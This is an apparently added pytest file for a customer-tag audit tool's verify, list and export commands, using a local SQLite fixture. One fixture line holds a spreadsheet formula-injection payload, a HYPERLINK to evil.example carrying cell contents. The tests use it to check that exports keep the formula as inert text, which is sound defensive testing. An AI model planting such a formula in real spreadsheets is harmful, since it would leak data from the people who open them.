@@ -1,0 +1,264 @@
+"""`tagdesk audit verify | list | export` end to end on a profile's cache (no network needed)."""
+
+from __future__ import annotations
+
+import argparse
+import csv
+import json
+import sqlite3
+from datetime import datetime
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from desktop.cli.audit_commands import register
+from desktop.cli.errors import run_guarded
+from desktop.cli.parser import _add_common
+from desktop.services.audit import EXPORT_COLUMNS, iso_local, local_datetime
+from desktop.services.profiles import Profile, ProfileStore
+from desktop.services.xlsx_safe import csv_value
+from desktop.store import journal
+from desktop.store.db import Cache
+from desktop.store.journal_query import JournalFilter, iter_rows
+from desktop.store.snapshot import LAST_SYNC_KEY
+
+T0 = datetime(2025, 3, 1, 9, 0).timestamp()
+EVIL = '=HYPERLINK("http://evil.example/?q="&A1, "点我")'
+JSON_FIELDS = ["id", "ts", "operator", "action", "source", "batch_id", "external_userid",
+               "customer", "userid", "tag_id", "tag_name", "group_name", "before", "after",
+               "reason"]
+
+
+def _fill(conn: sqlite3.Connection) -> None:
+    conn.executemany("INSERT INTO department (id, name, parent_id) VALUES (?, ?, ?)",
+                     [(1, "总部", 0), (2, "销售部", 1)])
+    conn.executemany("INSERT INTO member (userid, name) VALUES (?, ?)",
+                     [("zhangsan", "张三"), ("lisi", "李四")])
+    conn.executemany("INSERT INTO member_department (userid, department_id) VALUES (?, ?)",
+                     [("zhangsan", 2), ("lisi", 1)])
+    conn.executemany("INSERT INTO customer (external_userid, name) VALUES (?, ?)",
+                     [("wmA", "王小明"), ("wmB", EVIL), ("wmC", "+86 138")])
+    conn.execute("INSERT INTO tag_group (id, name) VALUES ('g1', '意向程度')")
+    conn.executemany("INSERT INTO tag (id, group_id, name) VALUES (?, 'g1', ?)",
+                     [("etA", "高意向"), ("etB", "低意向")])
+    entries = []
+    for i, (customer, owner) in enumerate([("wmA", "zhangsan"), ("wmB", "zhangsan"),
+                                           ("wmC", "lisi"), ("wmA", "lisi")]):
+        entries.append(journal.JournalEntry(
+            operator="zhangsan", action="tag_add", source="batch", batch_id="b-spring",
+            external_userid=customer, userid=owner, tag_id="etA", tag_name="高意向",
+            group_name="意向程度", before="[]", after='["etA"]', ts=T0 + i * 60,
+            reason="春季活动 @all",
+        ))
+    entries.append(journal.JournalEntry(
+        operator="lisi", action="tag_remove", source="observed", external_userid="wmC",
+        userid="lisi", tag_id="etA", tag_name="高意向", group_name="意向程度",
+        before='["etA"]', after="[]", ts=T0 + 86400,
+    ))
+    entries.append(journal.JournalEntry(
+        operator="lisi", action="tag_rename", source="tree", batch_id="b-tree", tag_id="etB",
+        tag_name="低意向", group_name="意向程度", before='{"name": "冷淡"}',
+        after='{"name": "低意向"}', ts=T0 + 2 * 86400,
+    ))
+    journal.append(conn, entries)
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> Path:
+    home = tmp_path / "home"
+    home.mkdir()
+    store = ProfileStore(home)
+    store.add(Profile(name="acme", corp_id="ww-acme", api_base="http://127.0.0.1:9/"))
+    with Cache(store.cache_path("acme")) as cache, cache.write() as conn:
+        _fill(conn)
+        cache.set_meta(conn, LAST_SYNC_KEY, str(T0))
+    return home
+
+
+def run(home: Path, capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
+    parser = argparse.ArgumentParser(prog="tagdesk")
+    _add_common(parser)
+    register(parser.add_subparsers(dest="command"))
+    args = parser.parse_args([*argv, "--home", str(home)])
+    code = run_guarded(args, args.handler)
+    captured = capsys.readouterr()
+    return code, captured.out, captured.err
+
+
+def tamper(home: Path, *statements: str) -> None:
+    conn = sqlite3.connect(ProfileStore(home).cache_path("acme"))
+    conn.execute("DROP TRIGGER journal_no_update")
+    conn.execute("DROP TRIGGER journal_no_delete")
+    for statement in statements:
+        conn.execute(statement)
+    conn.commit()
+    conn.close()
+
+
+# -- verify ------------------------------------------------------------------------------------
+
+
+def test_verify_passes_on_a_clean_journal(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, _ = run(home, capsys, "audit", "verify", "--profile", "acme")
+    assert code == 0 and "6 rows checked" in out
+    code, out, _ = run(home, capsys, "audit", "verify", "--profile", "acme", "--json")
+    assert code == 0
+    assert json.loads(out) == {"ok": True, "rows_checked": 6, "first_bad_id": None, "problem": ""}
+
+
+@pytest.mark.parametrize(("statements", "bad_row", "word"), [
+    (["UPDATE journal SET operator = 'lisi' WHERE id = 3"], 3, "edited"),
+    (["UPDATE journal SET reason = '' WHERE id = 1"], 1, "edited"),
+    (["DELETE FROM journal WHERE id = 4"], 4, "missing"),
+    (["DELETE FROM journal WHERE id = 6"], 6, "cut off"),
+    (["UPDATE journal SET id = -1 WHERE id = 2", "UPDATE journal SET id = 2 WHERE id = 5",
+      "UPDATE journal SET id = 5 WHERE id = -1"], 2, "reordered"),
+], ids=["edited row", "edited first row", "deleted row", "deleted last row", "two swapped rows"])
+def test_verify_names_the_first_bad_row(
+    home: Path, capsys: pytest.CaptureFixture[str], statements: list[str], bad_row: int,
+    word: str,
+) -> None:
+    tamper(home, *statements)
+    code, out, _ = run(home, capsys, "audit", "verify", "--profile", "acme")
+    assert code == 1
+    assert f"row {bad_row}" in out and word in out
+    code, out, _ = run(home, capsys, "audit", "verify", "--profile", "acme", "--json")
+    report = json.loads(out)
+    assert code == 1 and report["ok"] is False and report["first_bad_id"] == bad_row
+
+
+def test_verify_of_an_unknown_profile_is_an_error(
+    home: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, _, err = run(home, capsys, "audit", "verify", "--profile", "nope")
+    assert code == 2 and "nope" in err
+
+
+# -- list --------------------------------------------------------------------------------------
+
+
+def test_list_json_prints_every_row_then_a_summary(
+    home: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, _ = run(home, capsys, "audit", "list", "--profile", "acme", "--json")
+    lines = [json.loads(line) for line in out.splitlines()]
+    assert code == 0 and len(lines) == 7
+    rows, summary = lines[:-1], lines[-1]
+    assert [list(r) for r in rows] == [JSON_FIELDS] * 6
+    assert [r["id"] for r in rows] == [1, 2, 3, 4, 5, 6]
+    first = rows[0]
+    assert first["ts"] == iso_local(T0) and datetime.fromisoformat(first["ts"]).timestamp() == T0
+    assert first["customer"] == "王小明" and first["operator"] == "zhangsan"
+    assert first["before"] == [] and first["after"] == ["etA"]
+    assert rows[5]["before"] == {"name": "冷淡"}
+    assert summary == {"summary": True, "rows": 6, "batches": 2,
+                       "by_action": {"tag_add": 4, "tag_remove": 1, "tag_rename": 1},
+                       "by_source": {"batch": 4, "observed": 1, "tree": 1}}
+
+
+@pytest.mark.parametrize(("options", "ids"), [
+    (["--batch", "b-spring"], [1, 2, 3, 4]),
+    (["--operator", "lisi"], [5, 6]),
+    (["--since", "2025-03-02"], [5, 6]),
+    (["--until", "2025-03-01"], [1, 2, 3, 4]),
+    (["--since", "2025-03-01 09:01", "--until", "2025-03-01 09:03"], [2, 3]),
+    (["--department", "销售部"], [1, 2]),
+    (["--department", "1"], [1, 2, 3, 4, 5]),
+    (["--action", "tag_add", "--action", "tag_rename"], [1, 2, 3, 4, 6]),
+    (["--source", "observed"], [5]),
+    (["--tag", "低意向"], [6]),
+    (["--tag", "etA", "--customer", "小明"], [1, 4]),
+    (["--group", "意向程度", "--operator", "zhangsan", "--batch", "b-spring"], [1, 2, 3, 4]),
+])
+def test_list_filters(
+    home: Path, capsys: pytest.CaptureFixture[str], options: list[str], ids: list[int]
+) -> None:
+    code, out, _ = run(home, capsys, "audit", "list", "--profile", "acme", "--json", *options)
+    assert code == 0
+    assert [json.loads(line)["id"] for line in out.splitlines()[:-1]] == ids
+
+
+def test_list_since_a_span(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    code, out, _ = run(home, capsys, "audit", "list", "--profile", "acme", "--since", "24h")
+    assert code == 0 and out.splitlines() == ["— 共 0 行，0 个批次 / 0 rows, 0 batches"]
+
+
+def test_list_text_is_one_readable_line_per_row(
+    home: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, out, _ = run(home, capsys, "audit", "list", "--profile", "acme", "--batch", "b-spring")
+    lines = out.splitlines()
+    assert code == 0 and len(lines) == 5
+    assert lines[0].split("\t") == [iso_local(T0), "张三", "添加标签 tag added", "批量 batch",
+                                    "王小明", "张三", "意向程度:高意向", "b-spring",
+                                    "春季活动 @all"]
+
+
+@pytest.mark.parametrize(("options", "message"), [
+    (["--since", "yesterday"], "Not a time"),
+    (["--department", "火星"], "No department"),
+    (["--tag", "不存在"], "No tag named"),
+])
+def test_list_refuses_bad_options(
+    home: Path, capsys: pytest.CaptureFixture[str], options: list[str], message: str
+) -> None:
+    code, out, err = run(home, capsys, "audit", "list", "--profile", "acme", *options)
+    assert code == 2 and message in err and out == ""
+
+
+# -- export ------------------------------------------------------------------------------------
+
+
+def _expected(home: Path) -> list[list[object]]:
+    with Cache(ProfileStore(home).cache_path("acme")) as cache:
+        rows = list(iter_rows(cache, JournalFilter(batch_ids=("b-spring", "b-tree"))))
+    return [[r.id, local_datetime(r.ts), r.operator, r.operator_name, r.action, r.source,
+             r.batch_id, r.external_userid, r.customer, r.userid, r.owner_name, r.tag_id,
+             r.tag_name, r.group_name, r.before, r.after, r.reason] for r in rows]
+
+
+def test_xlsx_export_round_trips_and_keeps_formulas_as_text(
+    home: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    target = tmp_path / "out" / "audit.xlsx"
+    code, out, _ = run(home, capsys, "audit", "export", "--profile", "acme",
+                       "--source", "batch", "--source", "tree", str(target))
+    assert code == 0 and "5 rows" in out
+    book = load_workbook(target)
+    data, notes = book.worksheets
+    values = [[cell.value for cell in row] for row in data.iter_rows()]
+    assert values[0] == [c.key for c in EXPORT_COLUMNS]
+    assert [[("" if v is None else v) for v in row] for row in values[1:]] == _expected(home)
+    evil = next(row for row in data.iter_rows(min_row=2) if row[7].value == "wmB")[8]
+    assert evil.value == EVIL and evil.data_type == "s" and evil.quotePrefix
+    described = {row[0]: (row[1], row[2]) for row in notes.iter_rows(min_row=2, values_only=True)}
+    assert list(described) == [c.key for c in EXPORT_COLUMNS]
+    assert all(zh and en and zh != en for zh, en in described.values())
+    assert [p.name for p in target.parent.iterdir()] == ["audit.xlsx"]
+
+
+def test_csv_export_round_trips(
+    home: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    target = tmp_path / "audit.csv"
+    code, _, _ = run(home, capsys, "audit", "export", "--profile", "acme", "--batch", "b-spring",
+                     "--batch", "b-tree", str(target))
+    assert code == 0
+    raw = target.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf")
+    with target.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[0] == [c.key for c in EXPORT_COLUMNS]
+    assert "'" + EVIL in [cell for row in rows for cell in row]
+    expected = [[v.isoformat(sep=" ") if isinstance(v, datetime) else str(v) for v in row]
+                for row in _expected(home)]
+    assert [[csv_value(cell) for cell in row] for row in rows[1:]] == expected
+
+
+def test_export_refuses_other_file_types(
+    home: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    code, _, err = run(home, capsys, "audit", "export", "--profile", "acme",
+                       str(tmp_path / "audit.pdf"))
+    assert code == 2 and ".xlsx" in err and not (tmp_path / "audit.pdf").exists()
